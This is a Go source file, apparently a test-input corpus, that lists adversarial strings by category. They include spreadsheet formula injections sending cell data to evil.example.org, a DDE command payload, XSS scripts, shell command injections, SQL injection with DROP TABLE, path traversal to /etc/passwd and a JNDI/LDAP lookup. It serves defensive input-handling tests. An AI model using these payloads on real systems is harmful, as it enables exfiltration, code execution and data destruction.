package hostile

import "strings"

// spreadsheets take these for formulas.
func spreadsheets(c *collection) {
	for _, sign := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", "＝", "＋", "－", "＠", " =", "\u00a0=", "\ufeff=", "\u200b=", "'=", "\"=", ";=", "|"} {
		c.add("formula", sign+"HYPERLINK(\"https://evil.example.org/?x=\"&A1,\"open\")")
	}
	c.all("formula", "=cmd|' /C calc'!A0", "@SUM(1+1)", "=1+1", "-1+1", "+1", "-", "=", "a\n=1+1", "a,b", "a\"b", "\"", "\"\"", ",", ",,=1", "a;b", "'", "a\r\n\"=1\",", "#REF!", "%0A=1")
}

// markups mean something to Markdown and HTML.
func markups(c *collection) {
	c.all("markup", "`", "``", "```", "`a`", "```\n# owned\n```", "~~~", strings.Repeat("`", 70), "a`|`b", "|", "a|b", `\|`, `\\|`, `a\`, "\\`", "[x](javascript:alert(1))", "![x](https://evil.example.org/p.png)", "<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>", "<!--", "-->", "&lt;b&gt;", "&#x202e;", "**bold**", "# title", "- item", "> quote", "---", "1. item", "\n\n# owned", "<https://evil.example.org/>", "[^1]: x", "{{7*7}}", "${7*7}", "$(x)$", "<details>", "`\n`")
}

// shells run these where they are not quoted.
func shells(c *collection) {
	c.all("shell", "'; touch owned; '", "\"; touch owned; \"", "$(touch owned)", "`touch owned`", "${IFS}", "a; touch owned", "a && touch owned", "a | touch owned", "a > owned", "!!", "!touch", "~", "*", "-rf", "--help", "-", "'", "''", `\'`, `'\''`,
		"$'\\x1b'", "#x", "&", "%s%n", "\\\ntouch owned", "a'b\"c`d$e\\f", "(a)", "{a,b}", "[a]", "?", "=a")
}

// queries break out of jq, SQL, regular expressions and our own language.
func queries(c *collection) {
	c.all("query", `" or true or "`, `\(env)`, `"\(input_filename)"`, `") | env | ("`, "' OR 'a'='a", "'; DROP TABLE x; --", "' UNION SELECT 1 --", "a' /* x */ 'b", "$$", "?1", ".*", "(", "(?i", "[", "(a+)+$", "a{1000}", "\\Q", "\\", "actor:root", "is:failed OR", "-is:read", "a AND (b", "a:\"b", "/x", "since:1h",
		"http://[::1", "../../../etc/passwd", "..", "C:\\x", "%2e%2e%2f", "s3://evil/x", "/dev/tty", "file:///etc/passwd", "jndi:ldap://evil.example.org/a", "%x%x%n", "0x1b")
}

// structures break JSON, lines and records.
func structures(c *collection) {
	c.all("structure", `"`, `\"`, `","actionResult":"SUCCEEDED","x":"`, `"}`, `{"actionName":"x"}`, `}{`, `]`, `null`, `true`, `1e400`, `__proto__`, `constructor`, `a.b`, `a[0]`, `.`, `$ref`, `\u0000`, `\ud83d`, `/*`, `//`, `\`, `\\`, `"\`, "{", "[", "{}", "[]", "\"a\"", "-0", "NaN",
		"<?xml version=\"1.0\"?>", "--- yaml", "a: b", "a=b c=\"d", "\x1e{}", "PK\x03\x04", "\x1f\x8b\x08", "ESC[2J", "0", "-1", "9007199254740993")
}
